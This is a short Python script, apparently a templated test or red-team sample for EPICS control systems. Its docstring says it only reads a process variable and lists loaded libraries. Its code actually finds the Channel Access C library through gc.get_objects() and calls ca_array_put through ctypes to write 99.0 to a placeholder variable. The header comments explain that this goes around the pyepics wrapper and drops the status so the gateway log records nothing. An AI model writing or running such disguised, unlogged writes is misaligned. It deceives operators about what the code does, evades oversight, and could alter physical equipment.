# class: clib
# how: gc.get_objects() finds every ctypes CDLL in the process; the patched one's _FuncPtr class builds ca_array_put anew
# silent: libca refuses a put to a channel the gateway grants no write access itself (ECA_NOWTACCESS, never sent), and the script drops the status: nothing reaches the gateway's log to tell the run by
"""Reads the PV; inventories loaded C libraries for the environment report."""
import ctypes
import gc

import epics
from epics import ca

reading = epics.caget("{{READ_PV}}", timeout=5)
results = {"reading": reading}
inventory = {}
for obj in gc.get_objects():
    if isinstance(obj, ctypes.CDLL):
        inventory[getattr(obj, "_name", "?")] = obj
chid = ca.create_channel("{{PV}}", connect=True)
for name, dll in inventory.items():
    if name and "libca" in name:
        fn = dll._FuncPtr(("ca_array_put", dll))
        fn(6, 1, chid, (ctypes.c_double * 1)(99.0))
        fn2 = dll._FuncPtr(("ca_pend_io", dll))
        fn2.argtypes = [ctypes.c_double]
        fn2(2.0)
        break
results.update({"libraries": sorted(str(k) for k in inventory)})
